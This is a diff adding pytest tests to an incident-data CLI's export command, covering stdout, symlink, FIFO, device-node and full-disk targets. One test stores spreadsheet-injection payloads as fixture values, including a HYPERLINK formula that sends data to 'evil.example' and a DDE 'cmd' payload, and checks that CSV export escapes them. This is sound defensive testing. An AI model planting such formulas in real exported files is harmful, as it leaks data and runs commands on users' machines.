@@ -7,7 +7,7 @@ import threading
 
 import pytest
 
-from conftest import SEED
+from conftest import ROOT, SEED
 from test_cli import geo
 
 
@@ -143,3 +143,78 @@ def test_ingest_urls_and_feeds(web, tmp_path):
 def test_ingest_url_offline_is_a_clear_failure(tmp_path):
     r = geo("ingest", "http://127.0.0.1:9/nothing.html", "--db", str(tmp_path / "s.gpkg"))
     assert r.returncode == 1 and "cannot fetch" in r.stderr and "needs the internet" in r.stderr
+
+
+def _device(folder, name, minor):
+    """A character device node of our own (1,3 is null, 1,7 is full), so a test never touches /dev."""
+    import os
+    import stat
+    if os.geteuid() != 0:
+        from conftest import IN_CI
+        if IN_CI:
+            pytest.fail("device tests need root, as CI runs")
+        pytest.skip("making a device node needs root")
+    path = folder / name
+    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, minor))
+    return path
+
+
+def test_export_to_stdout_a_symlink_a_fifo_and_a_device(corpus):
+    import os
+    import stat
+    db = str(corpus / "store.gpkg")
+    geo("ingest", str(corpus / "articles" / "nested"), "--db", db)
+    r = geo("export", "--db", db, "-o", "-")
+    assert r.returncode == 0, r.stderr
+    assert json.loads(r.stdout)["type"] == "FeatureCollection" and "incidents -> standard output" in r.stderr
+    assert not (ROOT / "-").exists()
+    r = geo("export", "--db", db, "--format", "csv", "-o", "-")
+    assert r.returncode == 0 and r.stdout.startswith("incident_id,lon,lat,")
+
+    target = corpus / "real.geojson"
+    target.write_text("old")
+    link = corpus / "link.geojson"
+    link.symlink_to(target)
+    assert geo("export", "--db", db, "-o", str(link)).returncode == 0
+    assert link.is_symlink() and json.loads(target.read_text())["type"] == "FeatureCollection"
+
+    fifo = corpus / "pipe.geojson"
+    os.mkfifo(fifo)
+    received = []
+    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()))
+    reader.start()
+    r = geo("export", "--db", db, "-o", str(fifo))
+    reader.join(timeout=60)
+    assert r.returncode == 0, r.stderr
+    assert stat.S_ISFIFO(fifo.stat().st_mode) and json.loads(received[0])["type"] == "FeatureCollection"
+
+    null = _device(corpus, "null", 3)
+    for fmt in ("geojson", "gpkg"):
+        assert geo("export", "--db", db, "--format", fmt, "-o", str(null)).returncode == 0
+    assert stat.S_ISCHR(null.stat().st_mode)
+
+
+def test_export_to_a_full_disk_is_one_line(corpus):
+    db = str(corpus / "store.gpkg")
+    geo("ingest", str(corpus / "articles" / "nested"), "--db", db)
+    full = _device(corpus, "full", 7)
+    for fmt in ("geojson", "csv", "gpkg"):
+        r = geo("export", "--db", db, "--format", fmt, "-o", str(full))
+        assert r.returncode == 2 and r.stderr.count("\n") == 1 and "No space left on device" in r.stderr, r.stderr
+
+
+def test_csv_export_neutralises_spreadsheet_formulas(corpus):
+    import pandas as pd
+    from geo.store import Store
+    db = str(corpus / "store.gpkg")
+    geo("ingest", str(corpus / "articles" / "nested"), "--db", db)
+    formulas = {"place_name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "notes": "+cmd|' /C calc'!A0",
+                "actors": "@SUM(1+1)", "victims": "-2+3", "claimed_by": "\tTAB"}
+    with Store.open(db) as store:
+        store.correct(store.incidents().incident_id[0], formulas, who="test")
+    out = corpus / "out.csv"
+    assert geo("export", "--db", db, "--format", "csv", "-o", str(out)).returncode == 0
+    row = pd.read_csv(out, keep_default_na=False).iloc[0]
+    for column, value in formulas.items():
+        assert row[column] == "'" + value
+    assert pd.read_csv(out).lon.notna().any()  # numbers (a negative longitude too) are left alone
